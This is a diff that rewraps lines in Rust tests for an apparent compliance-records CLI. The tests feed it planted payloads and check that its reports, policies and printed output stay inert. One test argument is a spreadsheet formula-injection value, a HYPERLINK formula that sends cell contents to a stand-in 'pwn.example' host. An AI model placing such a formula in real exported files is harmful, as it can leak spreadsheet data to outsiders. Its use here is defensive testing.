@@ -21,7 +21,8 @@ impl Found {
 
     /// Nothing may have been found.
     fn check(self) {
-        let first: Vec<String> = self.0.iter().take(40).map(|leak| leak.chars().take(300).collect()).collect();
+        let first: Vec<String> =
+            self.0.iter().take(40).map(|leak| leak.chars().take(300).collect()).collect();
         assert!(self.0.is_empty(), "{} leaks, the first:\n{}", self.0.len(), first.join("\n"));
     }
 }
@@ -48,7 +49,8 @@ impl Planted {
             .output()
             .expect("the program runs");
         let Output { status, stdout, stderr } = output;
-        let (out, err) = (String::from_utf8_lossy(&stdout).into_owned(), String::from_utf8_lossy(&stderr).into_owned());
+        let (out, err) =
+            (String::from_utf8_lossy(&stdout).into_owned(), String::from_utf8_lossy(&stderr).into_owned());
         let name = arguments.join(" ");
         assert!(status.code().is_some_and(|code| codes.contains(&code)), "{name}: {status:?}\n{err}");
         let coloured = arguments.contains(&"always");
@@ -103,14 +105,20 @@ fn documents(third: usize, in_settings: bool) {
     let audited = planted.run(&["audit", "ws", "--out", "audit", "--formats", EVERYTHING], &[0], &mut found);
     assert!(is_marked(&audited), "the summary holds what the records hold");
     planted.run(&["policy", "ws", "--out", "policy", "--formats", "html,docx,md"], &[0], &mut found);
-    planted.run(&["letter", "=HYPERLINK(\"http://pwn.example/?x=\"&A1,\"pwn\")", "ws", "--out", "letters"], &[0, 2], &mut found);
+    planted.run(
+        &["letter", "=HYPERLINK(\"http://pwn.example/?x=\"&A1,\"pwn\")", "ws", "--out", "letters"],
+        &[0, 2],
+        &mut found,
+    );
     let made = planted.look("audit", &mut found) + planted.look("policy", &mut found);
     assert!(made > 100, "only {made} files were made");
     // The payloads did come through: else their being inert would show nothing.
     let page = fs::read_to_string(planted.folder.path().join("audit/register.html")).expect("a page");
     assert!(page.matches("pwn").count() > 1_000, "{}", page.matches("pwn").count());
     // Nothing was written elsewhere.
-    let outside = |(name, _): &(String, PathBuf)| !["audit/", "policy/", "letters/"].iter().any(|out| name.starts_with(out));
+    let outside = |(name, _): &(String, PathBuf)| {
+        !["audit/", "policy/", "letters/"].iter().any(|out| name.starts_with(out))
+    };
     let after: Vec<String> = planted.files(".").into_iter().filter(outside).map(|(name, _)| name).collect();
     assert_eq!(after, before.into_iter().map(|(name, _)| name).collect::<Vec<_>>());
     found.check();
@@ -132,13 +140,25 @@ fn what_is_printed_is_inert() {
     let (planted, mut found) = (Planted::new(2, true), Found::default());
     for colour in ["never", "always"] {
         planted.run(&["check", "ws", "--color", colour], &[0], &mut found);
-        planted.run(&["policy", "ws", "--out", "policy", "--formats", "md", "--color", colour], &[0], &mut found);
+        planted.run(
+            &["policy", "ws", "--out", "policy", "--formats", "md", "--color", colour],
+            &[0],
+            &mut found,
+        );
         planted.run(&["policy", "ws", "--proof", "--color", colour], &[0, 1], &mut found);
         planted.run(&["due", "ws", "--color", colour], &[0], &mut found);
         planted.run(&["letter", "--color", colour, "", "ws"], &[0, 2], &mut found);
-        planted.run(&["policy", "lint", "policy/privacy-policy.md", "--against", "ws", "--color", colour], &[0], &mut found);
+        planted.run(
+            &["policy", "lint", "policy/privacy-policy.md", "--against", "ws", "--color", colour],
+            &[0],
+            &mut found,
+        );
     }
-    for arguments in [&["check", "ws", "--format", "json"][..], &["due", "ws", "--format", "json"], &["audit", "ws", "--format", "json"]] {
+    for arguments in [
+        &["check", "ws", "--format", "json"][..],
+        &["due", "ws", "--format", "json"],
+        &["audit", "ws", "--format", "json"],
+    ] {
         let printed = planted.run(arguments, &[0], &mut found);
         found.add(&arguments.join(" "), data(&printed));
     }
@@ -149,7 +169,8 @@ fn what_is_printed_is_inert() {
     let printed = planted.run(&["audit", "ws", "--format", "github"], &[0], &mut found);
     assert!(printed.contains("::error ") && is_marked(&printed), "{printed}");
     found.add("github", commands(&printed));
-    let printed = planted.run(&["policy", "lint", "policy/privacy-policy.md", "--format", "sarif"], &[0], &mut found);
+    let printed =
+        planted.run(&["policy", "lint", "policy/privacy-policy.md", "--format", "sarif"], &[0], &mut found);
     found.add("lint", data(&printed));
     found.check();
 }
@@ -159,7 +180,11 @@ fn a_layout_is_proposed_that_can_be_read_again() {
     let (planted, mut found) = (Planted::new(0, true), Found::default());
     for name in ["all.xlsx", "named.xlsx", "bytes.csv"] {
         let printed = planted.run(&["layout", &format!("ws/records/{name}")], &[0, 3], &mut found);
-        assert!(printed.parse::<toml::Table>().is_ok(), "{name}: {:?}\n{printed}", printed.parse::<toml::Table>());
+        assert!(
+            printed.parse::<toml::Table>().is_ok(),
+            "{name}: {:?}\n{printed}",
+            printed.parse::<toml::Table>()
+        );
     }
     found.check();
 }
@@ -184,12 +209,20 @@ fn marked_copies_workbooks_to_fill_in_and_calendars_are_inert() {
 fn quarters_comparisons_packets_and_portfolios_are_inert() {
     let (planted, mut found) = (Planted::new(0, false), Found::default());
     let run = |quarter: &str, day: &str, found: &mut Found| {
-        planted.run(&["run", "ws", "--quarter", quarter, "--as-of", day, "--record", "--formats", EVERYTHING], &[0], found)
+        planted.run(
+            &["run", "ws", "--quarter", quarter, "--as-of", day, "--record", "--formats", EVERYTHING],
+            &[0],
+            found,
+        )
     };
     run("2026-Q3", "2026-09-30", &mut found);
     fs::remove_file(planted.folder.path().join("ws/records/named.xlsx")).expect("a file");
     run("2026-Q4", "2026-11-21", &mut found);
-    planted.run(&["compare", "2026-Q3", "2026-Q4", "ws", "--out", "compared", "--formats", "all"], &[0], &mut found);
+    planted.run(
+        &["compare", "2026-Q3", "2026-Q4", "ws", "--out", "compared", "--formats", "all"],
+        &[0],
+        &mut found,
+    );
     for profile in ["internal", "auditor", "customer", "public"] {
         let out = format!("packet-{profile}");
         let mut arguments = vec!["package", "2026-Q4", "ws", "--out", &out];
